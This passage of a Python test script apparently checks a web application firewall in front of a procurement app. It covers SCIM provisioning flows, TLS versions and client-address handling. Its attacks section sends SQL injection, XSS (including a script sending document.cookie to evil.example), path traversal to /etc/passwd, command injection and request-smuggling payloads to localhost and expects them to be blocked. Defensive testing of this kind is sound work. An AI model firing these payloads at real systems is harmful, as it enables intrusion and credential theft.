            "emails": [{"primary": True, "type": "work", "value": "bob.select@contoso.com"}],
            "meta": {"resourceType": "User"},
            "name": {"formatted": "Bob Select", "familyName": "Select", "givenName": "Bob"},
        },
        statuses=(201,),
    )
    uid2 = (r.json() or {}).get("id")
    if not uid or not uid2:
        fail("SCIM: users not created; the PATCH flows cannot run")
        return
    scim("SCIM get user (GET /Users/{id})", "GET", f"/Users/{uid}")
    # Entra's attribute update: the filter path `emails[type eq "work"].value`.
    scim(
        "SCIM Entra PATCH (emails[type eq \"work\"].value, externalId, name.givenName)",
        "PATCH",
        f"/Users/{uid}",
        {
            "schemas": [PATCHOP],
            "Operations": [
                {"op": "Replace", "path": "externalId", "value": ext},
                {"op": "Add", "path": 'emails[type eq "work"].value', "value": "alice.oneil@contoso.com"},
                {"op": "Replace", "path": "name.givenName", "value": "Alice"},
                {"op": "Replace", "path": "displayName", "value": "Alice O'Neil (Procurement)"},
            ],
        },
    )
    scim(
        "SCIM Entra PATCH (op Add without path, value object)",
        "PATCH",
        f"/Users/{uid}",
        {"schemas": [PATCHOP], "Operations": [{"op": "Add", "value": {"displayName": "Alice O'Neil", "name": {"familyName": "O'Neil"}, "active": "True"}}]},
    )
    scim(
        "SCIM Entra PATCH (remove name.givenName)",
        "PATCH",
        f"/Users/{uid}",
        {"schemas": [PATCHOP], "Operations": [{"op": "remove", "path": "name.givenName"}]},
    )
    # Groups: create, add members, remove members (Entra's bodies and the RFC filter form).
    r = scim(
        "SCIM Entra group create (POST /Groups)",
        "POST",
        "/Groups",
        {"schemas": [GROUP], "externalId": str(uuid.uuid4()), "displayName": "Procurement Approvers", "members": []},
        statuses=(201,),
    )
    gid = (r.json() or {}).get("id")
    if gid:
        scim(
            "SCIM Entra PATCH group (Add path members)",
            "PATCH",
            f"/Groups/{gid}",
            {"schemas": [PATCHOP], "Operations": [{"op": "Add", "path": "members", "value": [{"value": uid}, {"value": uid2}]}]},
        )
        scim(
            "SCIM Entra PATCH group (Remove path members, value)",
            "PATCH",
            f"/Groups/{gid}",
            {"schemas": [PATCHOP], "Operations": [{"op": "Remove", "path": "members", "value": [{"value": uid2}]}]},
        )
        scim(
            "SCIM PATCH group (remove members[value eq \"...\"])",
            "PATCH",
            f"/Groups/{gid}",
            {"schemas": [PATCHOP], "Operations": [{"op": "remove", "path": f'members[value eq "{uid}"]'}]},
        )
        scim(
            "SCIM Entra PATCH group (Replace displayName)",
            "PATCH",
            f"/Groups/{gid}",
            {"schemas": [PATCHOP], "Operations": [{"op": "Replace", "path": "displayName", "value": "Procurement Approvers (EU)"}]},
        )
    # Entra's deprovisioning: active "False" (a string), then the hard delete.
    scim(
        "SCIM Entra PATCH (Replace active \"False\")",
        "PATCH",
        f"/Users/{uid}",
        {"schemas": [PATCHOP], "Operations": [{"op": "Replace", "path": "active", "value": "False"}]},
        check=lambda r: None if (r.json() or {}).get("active") is False else "user still active",
    )
    scim("SCIM DELETE /Users/{id}", "DELETE", f"/Users/{uid2}", statuses=(204,))
    if gid:
        scim("SCIM DELETE /Groups/{id}", "DELETE", f"/Groups/{gid}", statuses=(204,))


def attacks():
    org = ARGS.orgs[0]
    q = urllib.parse.quote
    get = lambda name, path, **kw: expect_blocked(name, request(name, "GET", path, **kw))  # noqa: E731

    # SQL injection
    get("SQLi in a query string: ' OR 1=1--", "/api/suppliers?name=" + q("' OR 1=1--"))
    get("SQLi in a query string: UNION SELECT", "/api/suppliers?id=" + q("1 UNION SELECT username, password_hash FROM app.users--"))
    get("SQLi in a query string: stacked query", "/?q=" + q("1; DROP TABLE app.suppliers;--"))
    expect_blocked("SQLi in a JSON body (POST /api/login)", request(
        "sqli json", "POST", "/api/login", {"org": org, "email": "admin@a.demo.procuhelp.test' OR 1=1--", "password": "x"}))
    expect_blocked("SQLi in a form body (RelayState of the SAML ACS)", request(
        "sqli form", "POST", f"/sso/{org}/saml/acs",
        urllib.parse.urlencode({"SAMLResponse": "PHNhbWxwOlJlc3BvbnNlLz4=", "RelayState": "1' UNION SELECT id, email FROM app.users--"}),
        content_type="application/x-www-form-urlencoded"))
    expect_blocked("request smuggling in RelayState of the SAML ACS (exclusion 10003 leaves it checked)", request(
        "smuggling relaystate", "POST", f"/sso/{org}/saml/acs",
        urllib.parse.urlencode({"SAMLResponse": "PHNhbWxwOlJlc3BvbnNlLz4=", "RelayState": "x\r\nGET /api/users HTTP/1.1\r\nHost: a"}),
        content_type="application/x-www-form-urlencoded"))
    expect_blocked("XSS in the SAMLResponse field of the ACS (still inspected)", request(
        "xss samlresponse", "POST", f"/sso/{org}/saml/acs",
        urllib.parse.urlencode({"SAMLResponse": "<script>alert(1)</script>", "RelayState": "abc"}),
        content_type="application/x-www-form-urlencoded"))
    expect_blocked("SQLi in a SCIM filter (GET /Users?filter=)", request(
        "sqli scim filter", "GET", f"/scim/v2/{org}/Users?filter=" + q('userName eq "x" or 1=1 union select password from users--')))

    # Cross-site scripting
    get("XSS: <script>alert(1)</script> in a query string", "/?q=" + q("<script>alert(1)</script>"))
    get("XSS: javascript: URL", "/sso/" + org + "/oidc/start?next=" + q("javascript:alert(document.cookie)"))
    get("XSS: <img onerror=>", "/audit?action=" + q('"><img src=x onerror=alert(1)>'))
    expect_blocked("XSS in a JSON body (POST /api/suppliers)", request(
        "xss json", "POST", "/api/suppliers", {"name": "<svg/onload=alert(document.domain)>", "country": "DE"}))
    expect_blocked("XSS in a SCIM body (application/scim+json is inspected)", request(
        "xss scim", "PATCH", f"/scim/v2/{org}/Users/00000000-0000-0000-0000-000000000000",
        {"schemas": [PATCHOP], "Operations": [{"op": "Replace", "path": "displayName", "value": "<script>fetch('//evil.example/'+document.cookie)</script>"}]},
        content_type=SCIM_TYPE))

    # Path traversal / local file inclusion
    get("path traversal: ../../../../etc/passwd in a parameter", "/?file=" + q("../../../../etc/passwd"))
    get("path traversal: encoded in the path (%2e%2e%2f)", "/api/docs/a/b/%2e%2e%2f%2e%2e%2fetc%2fpasswd")
    get("path traversal: double-encoded (%252e%252e%252f)", "/?path=%252e%252e%252f%252e%252e%252fetc%252fpasswd")
    get("path traversal: ..\\..\\windows\\win.ini", "/?f=" + q("..\\..\\..\\windows\\win.ini"))
    expect_blocked("path traversal: raw /../../etc/passwd in the request line", raw(
        "traversal raw", lambda l: (
            f"GET /../../etc/passwd HTTP/1.1\r\nHost: {ARGS.edge_name}\r\nUser-Agent: curl/8.0\r\n"
            f"Accept: */*\r\nx-edge-test: {l}\r\nConnection: close\r\n\r\n").encode()), allow_rejected=True)
    expect_blocked("path traversal: raw ../ in the request line, below the root", raw(
        "traversal raw inside", lambda l: (
            f"GET /api/a/b/c/../../../etc/passwd HTTP/1.1\r\nHost: {ARGS.edge_name}\r\n"
            f"User-Agent: curl/8.0\r\nAccept: */*\r\nx-edge-test: {l}\r\nConnection: close\r\n\r\n").encode()))

    # Remote command execution and restricted files (CRS 930/932/920 at PL1)
    get("command injection: ;cat /etc/passwd", "/?host=" + q("127.0.0.1;cat /etc/passwd"))
    get("restricted file: /.env", "/.env")
    get("restricted extension: /backup.sql", "/backup.sql")

    # Scanners
    get("scanner user agent: sqlmap", "/", headers={"user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"})
    get("scanner user agent: Nikto", "/", headers={"user-agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"})
    get("scanner user agent: Nmap Scripting Engine", "/", headers={"user-agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"})

    # Protocol violations (CRS 911/920 at PL1), hand-made where a client library would not
    host = ARGS.edge_name
    expect_blocked("protocol: Content-Length and Transfer-Encoding together", raw(
        "cl+te", lambda l: (
            f"POST /api/login HTTP/1.1\r\nHost: {host}\r\nUser-Agent: curl/8.0\r\nAccept: */*\r\n"
            f"x-edge-test: {l}\r\nContent-Type: application/json\r\nContent-Length: 4\r\n"
            "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
            "2\r\n{}\r\n0\r\n\r\n").encode()), allow_rejected=True)
    expect_blocked("protocol: GET with a body", raw(
        "get body", lambda l: (
            f"GET /api/session HTTP/1.1\r\nHost: {host}\r\nUser-Agent: curl/8.0\r\nAccept: */*\r\n"
            f"x-edge-test: {l}\r\nContent-Length: 13\r\nConnection: close\r\n\r\n"
            "smuggled=body").encode()))
    expect_blocked("protocol: HTTP/1.0 without Host, Accept or User-Agent, with a null byte", raw(
        "http10", lambda l: (
            f"GET /?x=%00 HTTP/1.0\r\nx-edge-test: {l}\r\n\r\n").encode()))
    expect_blocked("protocol: HTTP/1.1 without Host", raw(
        "no host", lambda l: (
            f"GET / HTTP/1.1\r\nUser-Agent: curl/8.0\r\nAccept: */*\r\nx-edge-test: {l}\r\n"
            "Connection: close\r\n\r\n").encode()), allow_rejected=True)
    get("protocol: null byte in an argument", "/api/suppliers?name=acme%00.php")
    expect_blocked("protocol: method not allowed (PROPFIND /)", request("propfind", "PROPFIND", "/"))
    expect_blocked("protocol: method not allowed outside /api and /scim (PUT /)", request("put root", "PUT", "/", "x", content_type="text/plain"))
    expect_blocked("protocol: content type not allowed (text/html)", request(
        "ctype", "POST", "/api/login", "<html></html>", content_type="text/html"))
    expect_blocked("protocol: application/scim+json outside /scim/v2 (POST /api/login)", request(
        "scim ctype elsewhere", "POST", "/api/login", {"org": org, "email": "a@b.c", "password": "x"}, content_type=SCIM_TYPE))
    expect_blocked("protocol: restricted header (Proxy:, httpoxy)", request(
        "proxy header", "GET", "/", headers={"proxy": "http://evil.example:3128"}))
    expect_blocked("protocol: unparsable JSON body", request(
        "bad json", "POST", "/api/login", '{"org": "x", "email": ', content_type="application/json"))
    r = request("oversized body", "POST", "/api/login", "a" * (1024 * 1024 + 10), content_type="application/x-www-form-urlencoded")
    ok = r.status == 413 and r.edge == "rejected"
    if not ok:
        fail(f"a body over 1 MiB was not refused by the edge: status {r.status}, edge {r.edge!r}")
    REPORT.append(("attack", "request body over 1 MiB (the server's limit)", r.status, "rejected by the edge (413)" if ok else "NOT REJECTED"))


def check_tls():
    """TLS 1.2 and 1.3 are served; 1.0 and 1.1 are refused by the edge."""
    results = {}
    for name, version in [("TLSv1.3", ssl.TLSVersion.TLSv1_3), ("TLSv1.2", ssl.TLSVersion.TLSv1_2),
                          ("TLSv1.1", ssl.TLSVersion.TLSv1_1), ("TLSv1", ssl.TLSVersion.TLSv1)]:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.load_verify_locations(ARGS.edge_ca)
        try:
            # Let this client offer the old versions at all (OpenSSL 3 refuses them at its
            # default security level), so that a refusal is the edge's.
            ctx.set_ciphers("DEFAULT:@SECLEVEL=0")
            ctx.minimum_version = version
            ctx.maximum_version = version
        except (ValueError, ssl.SSLError):
            results[name] = "client cannot offer it"
            continue
        try:
            with socket.create_connection(("127.0.0.1", ARGS.edge_port), 10) as sock:
                with ctx.wrap_socket(sock, server_hostname=ARGS.edge_name) as tls:
                    results[name] = "accepted " + tls.version()
        except ssl.SSLError as e:
            if "PROTOCOL_VERSION" in str(e):
                results[name] = "refused (protocol version alert)"
            elif "NO_PROTOCOLS_AVAILABLE" in str(e):
                results[name] = "client cannot offer it"
            else:
                results[name] = f"refused ({e.reason})"
        except OSError as e:
            results[name] = f"error {e}"
    for name in ("TLSv1.3", "TLSv1.2"):
        if not results[name].startswith("accepted"):
            fail(f"the edge does not serve {name}: {results[name]}")
    for name in ("TLSv1.1", "TLSv1"):
        if results[name].startswith("accepted"):
            fail(f"the edge accepts {name}")
    REPORT.append(("headers", "TLS at the edge", 0, "; ".join(f"{k}: {v}" for k, v in results.items())))


def upstream_refusals_pass_through():
    """A 403/400 the application itself answers is not mistaken for a WAF block."""
    org = ARGS.orgs[0]
    r = request("app 401", "GET", "/api/audit/export", headers={"authorization": "Bearer " + "x" * 10})
    expect_passed("application 401 passes through untouched (no edge marker)", r, {401})
    email, password = ARGS.users[(org, "read_only")] if (org, "read_only") in ARGS.users else ARGS.users[(org, "read-only")]
    r = request("sign-in read-only", "POST", "/api/login", {"org": org, "email": email, "password": password})
    expect_passed("password sign-in (read-only user)", r, {200})
    ro = session_from(r)
    if ro:
        # The server's own 403 (permission denied) is not the WAF's: no marker, its JSON.
        r = request("app 403", "POST", "/api/suppliers", {"name": "Not Allowed GmbH", "country": "DE"}, headers=ro.headers())
        expect_passed("application 403 passes through untouched (read-only user writes; no edge marker)", r, {403},
                      lambda r: None if (r.json() or {}).get("error") or (r.json() or {}).get("code") else f"not the server's JSON: {r.text(120)!r}")
    r = request("app 400", "POST", "/api/login", {"unexpected": 1})
    expect_passed("application 4xx passes through untouched (bad JSON shape)", r, {400, 422})


def client_address():
    """The address the server records: the edge's peer, never a client-made
    X-Forwarded-For. The client connects from 127.0.0.2 (any 127/8 address is this
    machine); the edge is 127.0.0.1, the only trusted proxy."""
    org_a = ARGS.orgs[0]
    email, password = ARGS.users[(org_a, "approver")]
    ua_edge = "procuhelp-edge-test/xff-through-edge"
    ua_direct = "procuhelp-edge-test/xff-direct"
    r = request("xff edge", "POST", "/api/login", {"org": org_a, "email": email, "password": password},
                headers={"x-forwarded-for": "203.0.113.66", "user-agent": ua_edge}, source="127.0.0.2")
    expect_passed("sign-in through the edge with a forged X-Forwarded-For (from 127.0.0.2)", r, {200})
    r = request("xff direct", "POST", "/api/login", {"org": org_a, "email": email, "password": password},
                headers={"x-forwarded-for": "203.0.113.77", "user-agent": ua_direct}, source="127.0.0.3", direct=True)
    if r.status != 200:
        fail(f"direct sign-in failed: {r.status} {r.text()}")
    # The audit API opens the personal fields (source address, user agent) for an admin.
    s = ARGS.admin_session
    r = request("audit read for addresses", "GET", "/api/audit?action=auth.login_succeeded&limit=1000", headers=s.headers())
    expect_passed("audit read (GET /api/audit?action=auth.login_succeeded)", r, {200})
    seen = {}
    for ev in (r.json() or {}).get("events", []):
        personal = ev.get("personal") or {}
        if isinstance(personal, dict) and personal.get("user_agent") in (ua_edge, ua_direct):
            seen.setdefault(personal["user_agent"], set()).add(personal.get("source"))
    edge_src, direct_src = seen.get(ua_edge, set()), seen.get(ua_direct, set())
    ok = True
    if "127.0.0.2" not in edge_src or "203.0.113.66" in edge_src:
        ok = False
        fail(f"through the edge the server recorded {sorted(edge_src) or 'nothing'}, expected 127.0.0.2 (the edge's peer), never 203.0.113.66 (forged)")
    if "127.0.0.3" not in direct_src or "203.0.113.77" in direct_src:
        ok = False
        fail(f"directly the server recorded {sorted(direct_src) or 'nothing'}, expected 127.0.0.3 (its untrusted peer), never 203.0.113.77 (forged)")
    REPORT.append(("client", "client address in the audit trail", 0,
                   f"via edge: {sorted(edge_src)} (forged 203.0.113.66 dropped); direct from untrusted peer: {sorted(direct_src)} (forged 203.0.113.77 ignored)" if ok else "WRONG"))


def main():
    global ARGS
    p = argparse.ArgumentParser()
    p.add_argument("--edge-port", type=int, required=True)
    p.add_argument("--edge-name", required=True)
    p.add_argument("--edge-ca", required=True)
    p.add_argument("--server-port", type=int, required=True)
    p.add_argument("--server-name", default="localhost")
    p.add_argument("--server-ca", required=True)
    p.add_argument("--audit-log", required=True)
    p.add_argument("--error-log", required=True)
    p.add_argument("--demo", required=True)
    p.add_argument("--server-bin")
    p.add_argument("--work", required=True)
    p.add_argument("--bulk-events", type=int, default=300)
    ARGS = p.parse_args()
    ARGS.edge_ctx = tls_context(ARGS.edge_ca)
    ARGS.server_ctx = tls_context(ARGS.server_ca)
    ARGS.orgs, ARGS.users = read_demo(ARGS.demo)
    if len(ARGS.orgs) < 2:
        print("edge-check: seed-demo output has no organisations", file=sys.stderr)
        return 2
    t0 = time.time()
    for part in (check_tls, check_headers, attacks, upstream_refusals_pass_through, flows, client_address):
        try:
            part()
        except Exception as e:  # a crash is a failure with its cause, not a traceback only
            import traceback
            traceback.print_exc()
            fail(f"{part.__name__} crashed: {e!r}")
    late_matches()

    width = max(len(n) for _, n, _, _ in REPORT) if REPORT else 40
    for kind in ("attack", "flow", "headers", "client"):
        rows = [r for r in REPORT if r[0] == kind]
        if not rows:
            continue
        print(f"\n---- {kind} ----")
        for _, name, status, detail in rows:
            print(f"  {name:<{min(width, 90)}}  {status or '':>3}  {detail}")
    attacks_n = sum(1 for r in REPORT if r[0] == "attack")
    flows_n = sum(1 for r in REPORT if r[0] != "attack")
    print(f"\nedge-check: {attacks_n} attack payloads, {flows_n} legitimate checks, "
          f"{len(FAILURES)} failures, {time.time() - t0:.1f}s")
    if FAILURES:
        print("\nFAILURES:", file=sys.stderr)
        for f in FAILURES:
            print(f"  - {f}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
